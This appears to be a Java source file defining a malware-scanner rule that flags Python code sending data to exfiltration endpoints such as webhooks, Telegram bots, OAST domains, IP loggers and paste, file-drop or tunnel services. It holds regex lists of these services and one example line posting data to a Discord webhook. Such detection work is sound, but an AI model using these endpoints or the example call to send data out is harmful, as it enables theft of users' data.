package dev.kingsnake.rules.network;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.rules.shared.Indicator;
import dev.kingsnake.rules.shared.IndicatorRule;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.facts.CallFacts;
import dev.kingsnake.spi.facts.Capability;
import dev.kingsnake.spi.python.Expr;

import java.util.EnumSet;
import java.util.List;
import java.util.Set;

/** Services that malware uses to receive stolen data or stage payloads: webhooks, bots, paste/drop sites, OAST. */
public final class ExfilEndpointRule extends IndicatorRule {

    private static final RuleInfo INFO = new RuleInfo("KS-NET-EXFIL-ENDPOINT",
            "Talks to a data-drop endpoint: chat webhooks/bots, request catchers and OAST callback domains, paste, "
                    + "file-drop and tunnel services",
            Severity.HIGH, Confidence.HIGH, Set.of(Tags.NETWORK, Tags.EXFILTRATION),
            "requests.post('https://discord.com/api/webhooks/123/abc', json={'content': data})  # id/token made up",
            "Webhook and bot client libraries name the base API; a concrete webhook URL or bot token, or an OAST / "
                    + "request-catcher or IP-logger domain, is reported always (critical when the same function "
                    + "sends data: a POST, or a URL carrying run-time values); base "
                    + "APIs, paste, file-drop and tunnel services only where the same function sends data (high), uses "
                    + "the network (medium) or the file does (lower).");

    private static final List<Indicator> INDICATORS = List.of(
            Indicator.strong("Discord webhook with id and token",
                    "discord(app)?\\.com/api/(v\\d+/)?webhooks/\\d{6,}/[\\w-]{20,}"),
            Indicator.strong("Telegram bot token", "api\\.telegram\\.org/bot\\d{6,}:[\\w-]{20,}"),
            Indicator.strongExact("hard-coded Telegram bot token", "^\\d{8,10}:AA[0-9A-Za-z_-]{33}$"),
            Indicator.strong("request catcher / OAST callback domain",
                    "(webhook\\.site|requestbin\\.(com|net)|\\.m\\.pipedream\\.net|(^|[./])interact\\.sh|\\.oast\\."
                            + "(pro|live|site|online|fun|me)|oastify\\.com|burpcollaborator\\.net|dnslog\\.cn|\\.ceye\\.io"
                            + "|canarytokens\\.com|hookbin\\.com|requestcatcher\\.com|webhookrelay\\.com|\\.beeceptor\\.com"
                            + "|\\.xss\\.ht|pingb\\.in|\\.dnslog\\.|bxss\\.me|\\.requestrepo\\.com)"),
            Indicator.strong("IP-logger (visitor-grabbing) service",
                    "(^|[./])(iplogger\\.(org|com|ru|co|info)|grabify\\.link|2no\\.co|yip\\.su|iplis\\.ru"
                            + "|blasze\\.(com|tk)|ipgrabber\\.ru|ps3cfw\\.com)(/|$)"),
            Indicator.weak("Discord webhook API", "discord(app)?\\.com/api/(v\\d+/)?webhooks"),
            Indicator.weak("Telegram bot API", "api\\.telegram\\.org/bot"),
            Indicator.weak("Slack/Teams incoming webhook", "hooks\\.slack\\.com/services/t|webhook\\.office\\.com"),
            Indicator.weak("paste site", "(pastebin\\.com|paste\\.ee|hastebin\\.com|rentry\\.(co|org)|ghostbin\\."
                    + "|controlc\\.com|privatebin\\.|termbin\\.com|dpaste\\.(com|org)|paste\\.c-net\\.org)"),
            Indicator.weak("file-drop service", "(transfer\\.sh|file\\.io|anonfiles\\.|gofile\\.io|bashupload\\.com"
                    + "|catbox\\.moe|tmpfiles\\.org|temp\\.sh|oshi\\.at|0x0\\.st|filebin\\.net|pixeldrain\\.com"
                    + "|uguu\\.se|store\\d*\\.gofile\\.io)"),
            Indicator.weak("tunnel service", "(\\.ngrok(-free)?\\.(io|app|dev)|ngrok\\.io|\\.trycloudflare\\.com"
                    + "|serveo\\.net|\\.loca\\.lt|localhost\\.run|\\.pagekite\\.me|\\.localto\\.net|portmap\\.io)"));

    public ExfilEndpointRule() {
        super(INFO, INDICATORS, EnumSet.of(Capability.NETWORK, Capability.PROCESS), false,
                "names a data-drop endpoint");
    }

    @Override
    protected Grade grade(CallFacts facts, Hit h, boolean several) {
        boolean sendsHere = facts.scopeHas(h.string().scope(), Capability.SEND);
        if (h.indicator().strong()) {
            sendsHere |= carriesData(h) && facts.scopeHas(h.string().scope(), Capability.NETWORK);
            return new Grade(sendsHere ? Severity.CRITICAL : Severity.HIGH, Confidence.HIGH);
        }
        if (sendsHere) {
            return new Grade(Severity.HIGH, Confidence.HIGH);
        }
        if (hasAny(facts.scope(h.string().scope()), companions())) {
            return new Grade(Severity.MEDIUM, Confidence.HIGH);
        }
        if (hasAny(facts.fileCaps(), companions())) {
            return new Grade(Severity.MEDIUM, Confidence.MEDIUM);
        }
        return null;
    }

    /**
     * A URL built with run-time values (an f-string with a hole after the scheme: in the host or the path):
     * with a network call in the same function, the values leave in the URL even over GET.
     */
    private static boolean carriesData(Hit h) {
        String t = h.string().text();
        int host = t.indexOf("://");
        return (h.string().node() instanceof Expr.FString || h.string().node() instanceof Expr.BinOp)
                && t.indexOf("{}", host < 0 ? 0 : host + 3) > 0;
    }
}
